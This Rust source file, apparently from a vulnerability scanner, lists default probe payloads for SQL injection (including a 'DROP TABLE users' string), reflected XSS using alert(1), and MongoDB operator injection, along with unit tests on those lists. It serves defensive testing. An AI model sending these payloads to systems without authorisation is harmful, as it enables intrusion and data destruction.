// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Default Probe Payloads
 * Curated attack-string collections for the injection and XSS probes
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

/// Classic SQL injection strings, ordered from most to least likely to
/// trigger an error or logic change. Probes walk the list in order and
/// stop at the first detection.
pub fn default_sql_payloads() -> Vec<String> {
    vec![
        "' OR '1'='1".to_string(),
        "' OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "\" OR \"\"=\"".to_string(),
        "1' UNION SELECT NULL--".to_string(),
        "admin'--".to_string(),
        "' AND SLEEP(0)--".to_string(),
    ]
}

/// Reflected XSS probes. Each payload is detectable verbatim in a response
/// body and lands in an executable context when unescaped.
pub fn default_xss_payloads() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".to_string(),
        "\"><script>alert(1)</script>".to_string(),
        "<img src=x onerror=alert(1)>".to_string(),
        "<svg onload=alert(1)>".to_string(),
        "<body onload=alert(1)>".to_string(),
        "<a href=x onclick=alert(1)>x</a>".to_string(),
    ]
}

/// MongoDB-style operator injection strings. Only used when the NoSQL
/// probe is explicitly enabled for a run.
pub fn default_nosql_payloads() -> Vec<String> {
    vec![
        r#"{"$gt": ""}"#.to_string(),
        r#"{"$ne": null}"#.to_string(),
        r#"{"$where": "1 == 1"}"#.to_string(),
        r#"{"username": {"$regex": ".*"}}"#.to_string(),
        r#"'; return true; var x='"#.to_string(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_collections_are_non_empty() {
        assert!(!default_sql_payloads().is_empty());
        assert!(!default_xss_payloads().is_empty());
        assert!(!default_nosql_payloads().is_empty());
    }

    #[test]
    fn xss_payloads_carry_an_executable_context() {
        for payload in default_xss_payloads() {
            let executable = payload.contains("<script>")
                || payload.contains("onerror=")
                || payload.contains("onload=")
                || payload.contains("onclick=");
            assert!(executable, "payload lacks executable context: {}", payload);
        }
    }
}
